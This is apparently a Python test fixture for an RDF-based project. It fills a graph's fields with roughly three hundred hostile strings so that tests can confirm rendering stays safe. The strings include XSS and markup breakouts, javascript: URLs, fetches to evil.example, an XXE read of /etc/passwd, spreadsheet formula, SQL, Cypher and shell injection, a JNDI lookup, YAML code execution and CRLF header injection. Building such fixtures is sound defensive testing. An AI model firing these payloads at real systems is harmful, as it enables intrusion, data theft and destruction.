"""Three hundred strings that are meant ill, and more: a graph has each of them in every field.

What would run sets ``window.hacked``, or asks for a dialog or a file: a test looks for all three.
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable, Iterator, Sequence
from itertools import product
from pathlib import Path

from pyoxigraph import Literal, NamedNode, Triple

from diplograph import rdf
from diplograph.backends import Graph, memory
from diplograph.namespaces import DG, ID, KIND
from diplograph.vocabulary import vocabulary

_RUN = "window.hacked=1"
_LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
_SKOS = "http://www.w3.org/2004/02/skos/core#"
_DCTERMS = "http://purl.org/dc/terms/"
_OA = "http://www.w3.org/ns/oa#"
_PROV = "http://www.w3.org/ns/prov#"
_TYPE = "http://www.w3.org/1999/02/22-rdf-syntax-ns#type"
_WHOLE = NamedNode("http://www.w3.org/2001/XMLSchema#integer")


def _breakouts() -> Iterator[str]:
    """Ends of what a string may stand in, each followed by what runs."""
    ends = (
        *("", '"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "*/", "}", "})", "\\", '\\"'),
        *("\n", "</title>", "</textarea>", "</style>", "</script>", "</SCRIPT\t>", "</svg>"),
        *("</text>", "</td></tr></table>", "</bdi>", "&quot;>", "&#34;>", "\u2028", "\u2029"),
        *("</xmp>", "</noembed>", "</desc>", "</noscript>", "</template>", "</math>", "</option>"),
        *(
            "?>",
            "%>",
            "]]>]]>",
            "&NewLine;>",
            "\\u0022>",
            "<!--><!-->",
            "${",
            "')",
            '")',
            "'}]",
            "\f",
        ),
    )
    runs = (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f" onload={_RUN} x=")
    yield from (end + run for end, run in product(ends, runs))


def _markup() -> Iterator[str]:
    """Elements that run, load or send by themselves, and what is read as such after one change."""
    yield from (
        f"<svg onload={_RUN}>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
        f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
        f"<svg><use href=\"data:image/svg+xml,<svg onload='{_RUN}'/>#x\"></svg>",
        f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
        f"<body onload={_RUN}>",
        f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
        f"<iframe src=javascript:parent.{_RUN}></iframe>",
        f"<details open ontoggle={_RUN}>",
        f"<video><source onerror={_RUN}>",
        f"<input autofocus onfocus={_RUN}>",
        f"<object data=javascript:{_RUN}>",
        f"<a href=javascript:{_RUN}>x</a>",
        f"<form action=javascript:{_RUN}><button>x</button></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<img src=https://evil.example/x.png>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>*{display:none}</style>",
        "<plaintext>",
        "<!--",
        "<!--<script>",
        "<![CDATA[<script>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "&e; &lt;script&gt; &#60;script&#62; &#x3c;",
        f"%3Cscript%3E{_RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
        f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
        f"<scr\x00ipt>{_RUN}</script>",
        f"<a\u200bb onclick={_RUN}>",
        f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
        f"<template><script>{_RUN}</script></template>",
    )


def _sending() -> Iterator[str]:
    """Elements and attributes that ask for what lies elsewhere, and what is taken for a drawing."""
    elsewhere = "https://evil.example/x"
    yield from (
        f"<audio src={elsewhere}></audio>",
        f"<video poster={elsewhere}></video>",
        f"<embed src={elsewhere}>",
        f"<object data={elsewhere}></object>",
        f"<iframe src={elsewhere}></iframe>",
        f"<frameset><frame src={elsewhere}></frameset>",
        f"<input type=image src={elsewhere} onerror={_RUN}>",
        f"<img srcset='{elsewhere} 2x'>",
        f"<picture><source srcset={elsewhere}><img></picture>",
        f"<link rel=preload as=script href={elsewhere}>",
        f"<link rel=dns-prefetch href={elsewhere}>",
        f"<script src={elsewhere}></script>",
        f"<script type=module>import '{elsewhere}'</script>",
        f"<svg><image href={elsewhere} /></svg>",
        f"<svg><use href={elsewhere}#a /></svg>",
        f"<svg><feImage href={elsewhere} /></svg>",
        f"<svg><foreignObject><iframe src={elsewhere}></iframe></foreignObject></svg>",
        f"<svg><set attributeName=href to=javascript:{_RUN}>",
        f"<svg><style>@import '{elsewhere}';</style></svg>",
        f"<p style='background:url({elsewhere})'>x</p>",
        f"<table background={elsewhere}>",
        f"<body background={elsewhere}>",
        f"<button popovertarget=x onbeforetoggle={_RUN}>",
        f"<div contenteditable onbeforeinput={_RUN} autofocus onfocus={_RUN}>x</div>",
        f"<marquee onstart={_RUN}>x</marquee>",
        f"<xss style='animation-name:x' onanimationstart={_RUN}>x</xss>",
        f"<a ping={elsewhere} href={elsewhere}>x</a>",
        f"<?xml-stylesheet href='{elsewhere}'?>",
        f"<!DOCTYPE x SYSTEM '{elsewhere}'>",
        f"<xi:include href='{elsewhere}' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
    )


def _languages() -> Iterator[str]:
    """Addresses, styles, templates, formulas, Turtle, JSON, Markdown and paths."""
    yield from (
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f"java\tscript:{_RUN}",
        f" javascript:{_RUN}",
        f"\x01javascript:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        f"vbscript:{_RUN}",
        "file:///etc/passwd",
        "//evil.example/x",
        f"https://evil.example/x' onclick='{_RUN}",
        "https://evil.example/\u202ecod.exe",
        "https://user:pass@evil.example/",
        "background:url(https://evil.example/x.png)",
        f"expression({_RUN})",
        f"';{_RUN};'",
        f'";{_RUN};"',
        f"${{{_RUN}}}",
        f"{{{{constructor.constructor('{_RUN}')()}}}}",
        "{% raw %}",
        "{s} {o} {h} {count} {0}",
        "__proto__",
        "constructor",
        "toString",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/","x")',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "a,b;c\td\r\n=1+1",
        '"quoted"',
        '""""',
        "\\",
        '\\" . <x:a> <x:b> "',
        '"""@en . <https://evil.example/a> <https://evil.example/b> "c',
        "<> a <https://evil.example/> .",
        '"}],"statements":[{"x":"',
        f"[x](javascript:{_RUN})",
        "../../../etc/passwd",
        "con.txt",
        "#view=table&pick=x",
        "a&b=c#d?e",
        "%",
        "%00",
        "%E0%A4%A",
        '=IMPORTXML("https://evil.example/","//a")',
        '=WEBSERVICE("https://evil.example/")',
        "\uff1d1+1",
        " =1+1",
        "'=1+1",
        "|calc",
        "!A1",
        "javascript&colon;alert(1)",
        "java\nscript:alert(1)",
        "\\\\evil.example\\share\\x",
        "blob:https://evil.example/x",
        "feed:javascript:alert(1)",
        "<http://evil.example/> <http://evil.example/> <http://evil.example/> .",
        "@prefix x: <http://evil.example/> .",
        "LOAD CSV FROM 'https://evil.example/' AS x",
        "`}) DETACH DELETE n //",
        "'; DROP TABLE places; --",
        "{{7*7}}",
        "<%= 7 * 7 %>",
        "#{7*7}",
    )


def _others() -> Iterator[str]:
    """YAML, shells, formats, headers of HTTP and names of files."""
    yield from (
        "!!python/object/apply:os.system [id]",
        "*alias",
        "&anchor x",
        "<<: *a",
        "? x",
        "- - - x",
        "| x",
        "%YAML 1.1",
        "--- x",
        "NO",
        "12:30",
        "0123",
        "null",
        "~",
        ".nan",
        "NaN",
        "..\\..\\x",
        "/dev/stdin",
        "a/../../b",
        "name\t.html",
        "; touch hacked",
        "$(touch hacked)",
        "`touch hacked`",
        "-rf",
        "--help",
        "%s%n%x",
        "%(x)s {0.__class__}",
        "${jndi:ldap://evil.example/x}",
        "\r\nSet-Cookie: hacked=1",
        f"\r\n\r\n<script>{_RUN}</script>",
        "Content-Type: text/html",
        "\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\",
    )


def _letters() -> Iterator[str]:
    """Letters that turn, hide, pile up, or are none."""
    yield from (
        "",
        " ",
        "\x00",
        "a\x00b",
        "\x07\x08\x1b[31mred\x1b[0m",
        "\x7f\x80\x9f",
        "\u202eevil\u202c",
        "\u202d\u202e\u202a\u202b",
        "\u2066\u2067\u2068 open",
        "\u2069\u2069 closed",
        "\u200f\u200e\u061c",
        "gpj.\u202eexe",
        "a\u2028b\u2029c",
        "a\x0bb\x0cc\x85d",
        "\ufeffbom",
        "\ufffe\uffff",
        "\ufffd",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U000e0041\U000e007f",
        "\U0010ffff",
        "e" + "\u0301" * 200,
        "\ufdfa" * 40,
        "W" * 500,
        "word " * 200,
        "\u0627" * 300,
        "\u0645\u0631\u062d\u0628\u0627 <b>hello</b> \u05e9\u05dc\u05d5\u05dd",
    )


STRINGS = (*_breakouts(), *_markup(), *_sending(), *_languages(), *_others(), *_letters())


def graph(folder: Path, strings: Sequence[str] = STRINGS) -> Graph:
    """As :func:`ntriples`, in memory."""
    return memory(ntriples(folder, strings))


def ntriples(folder: Path, strings: Sequence[str] = STRINGS) -> bytes:
    """As many visits, hosts, sectors, sources and claims as strings; their texts in `folder`."""
    found = [triple for number in range(len(strings)) for triple in _story(number, folder, strings)]
    return rdf.ntriples([*found, *vocabulary().triples])


def _story(number: int, folder: Path, strings: Sequence[str]) -> Iterator[Triple]:
    """All that is said of one visit: each field begins at another string."""

    def said(offset: int) -> str:
        return strings[(number + offset) % len(strings)]

    names = ("visit", "host", "source", "sector", "person", "outlet", "town", "scan")
    classes = ("Visit", "Organisation", "Source", "Sector", "Person", "Organisation", "City")
    for place, (name, kind) in enumerate(zip(names, (*classes, "Scan"), strict=True)):
        yield from _named(f"{name}-{number}", kind, place, said)
    visit, source = f"visit-{number}", f"source-{number}"
    for text in (said(0), f"https://fine.example/{said(1)}"):
        if iri := _iri(text):
            yield _triple(f"host-{number}", f"{_SKOS}exactMatch", iri)
    yield _triple(source, f"{_DCTERMS}issued", said(2))
    yield _triple(source, f"{_DCTERMS}language", said(3))
    yield _triple(source, f"{_DCTERMS}publisher", _node(f"outlet-{number}"))
    yield _triple(source, "https://schema.org/url", said(4))
    yield _triple(visit, f"{DG}hostedBy", _node(f"host-{number}"))
    yield _triple(visit, f"{DG}ledBy", _node(f"person-{number}"))
    yield _triple(visit, f"{DG}onAgenda", _node(f"sector-{number}"))
    yield _triple(visit, f"{DG}date", said(5))
    yield _triple(visit, f"{DG}eventStatus", NamedNode(f"{KIND}held"))
    # A place that maps have; that of the next visit is another, so that one leads to the other.
    mapped = "us-ms" if number % 2 else "ma-06"
    yield _triple(mapped, _TYPE, NamedNode(f"{DG}Place"))
    yield _triple(f"town-{number}", f"{DG}within", _node(mapped))
    yield _triple(visit, f"{DG}takesPlaceIn", _node(f"town-{number}"))
    yield _triple(visit, f"{DG}visitorFrom", _node(f"town-{(number + 1) % len(strings)}"))
    yield _triple(visit, f"{DG}visitingParty", _node(f"outlet-{number // 3}"))
    yield from _passage(number, said(7), folder)
    yield from _claims(number, said)
    yield from _searched(number, said)


def _named(name: str, kind: str, place: int, said: Callable[[int], str]) -> Iterator[Triple]:
    yield _triple(name, _TYPE, NamedNode(DG + kind))
    yield _triple(name, _LABEL, Literal(said(place), language="en"))
    yield _triple(name, f"{_SKOS}prefLabel", Literal(said(place + 60), language="fr"))
    yield _triple(name, f"{_SKOS}prefLabel", Literal(said(place + 120), language="ar"))
    yield _triple(name, f"{_SKOS}altLabel", said(place + 30))
    yield _triple(name, f"{_DCTERMS}source", said(place + 90))


def _passage(number: int, words: str, folder: Path) -> Iterator[Triple]:
    """The text of a source, which is one passage, claimed from and left out."""
    if words and not set(words) & {"\0", "\r"}:
        (folder / f"{number}.txt").write_bytes(words.encode())
    digest = hashlib.sha256(words.encode()).hexdigest()
    yield _triple(f"source-{number}", f"{DG}textDigest", f"sha256:{digest}")
    for span in (f"span-{number}", f"omitted-{number}"):
        yield _triple(span, _TYPE, NamedNode(f"{DG}Evidence"))
        yield _triple(span, f"{_OA}hasSource", _node(f"source-{number}"))
        for name, value in (("start", 0), ("end", len(words)), ("paragraph", 1)):
            yield _triple(span, DG + name, Literal(str(value), datatype=_WHOLE))
    yield _triple(f"omitted-{number}", f"{DG}omissionReason", NamedNode(f"{KIND}lead-in"))


def _searched(number: int, said: Callable[[int], str]) -> Iterator[Triple]:
    """An entry of the scan log, and the part of it that counts."""
    scan, part = f"scan-{number}", f"scan-{number}.part"
    for name, offset in (("temporal", 15), ("created", 16), ("language", 17), ("description", 18)):
        yield _triple(scan, _DCTERMS + name, said(offset))
    yield _triple(scan, f"{_DCTERMS}subject", said(19))
    yield _triple(scan, f"{_DCTERMS}subject", _node(f"visit-{number}"))
    yield _triple(scan, f"{_DCTERMS}spatial", _node(f"town-{number}"))
    yield _triple(scan, f"{_PROV}used", _node(f"outlet-{number}"))
    yield _triple(part, _TYPE, NamedNode(f"{DG}Scan"))
    yield _triple(part, f"{_DCTERMS}isPartOf", _node(scan))
    yield _triple(part, f"{_DCTERMS}temporal", said(20))
    yield _triple(part, f"{DG}itemsRead", Literal("3", datatype=_WHOLE))


def _claims(number: int, said: Callable[[int], str]) -> Iterator[Triple]:
    """Claims of a relation, of a value, of a plan, and an opinion."""
    made: tuple[tuple[str, str, NamedNode | Literal | None], ...] = (
        ("reported-event", "hostedBy", _node(f"host-{number}")),
        ("reported-event", "date", Literal(said(5))),
        ("plan", "eventStatus", NamedNode(f"{KIND}planned")),
        ("opinion", "", None),
    )
    for place, (kind, name, end) in enumerate(made):
        claim = f"claim-{number}-{place}"
        codes = {"claimKind": kind, "certainty": "certain", "polarity": "affirmed"}
        codes |= {"basis": "inferred", "rank": "preferred"}
        yield _triple(claim, _TYPE, NamedNode(f"{DG}Claim"))
        for each, code in codes.items():
            yield _triple(claim, DG + each, NamedNode(KIND + code))
        yield _triple(claim, f"{DG}holder", _node(f"source-{number}"))
        yield _triple(claim, f"{DG}attributedTo", _node(f"person-{number}"))
        yield _triple(claim, f"{DG}about", _node(f"visit-{number}"))
        yield _triple(claim, f"{_PROV}wasDerivedFrom", _node(f"span-{number}"))
        for lang, offset in (("en", 8), ("fr", 9), ("ar", 10)):
            yield _triple(claim, f"{DG}gloss", Literal(said(place + offset), language=lang))
        yield _triple(claim, f"{DG}rankReason", said(place + 11))
        yield _triple(claim, f"{DG}inferredFrom", Literal(said(place + 12), language="en"))
        yield _triple(claim, f"{DG}validFrom", said(place + 13))
        yield _triple(claim, f"{DG}validUntil", said(place + 14))
        if end is not None:
            yield _triple(claim, f"{DG}claimSubject", _node(f"visit-{number}"))
            yield _triple(claim, f"{DG}claimProperty", NamedNode(DG + name))
            ends_in = "claimValue" if isinstance(end, Literal) else "claimObject"
            yield _triple(claim, DG + ends_in, end)


def _node(name: str) -> NamedNode:
    return NamedNode(ID + name)


def _triple(subject: str, predicate: str, value: NamedNode | Literal | str) -> Triple:
    end = Literal(value) if isinstance(value, str) else value
    return Triple(_node(subject), NamedNode(predicate), end)


def _iri(text: str) -> NamedNode | None:
    """`text` as an IRI, if it is one."""
    try:
        return NamedNode(text)
    except ValueError:
        return None
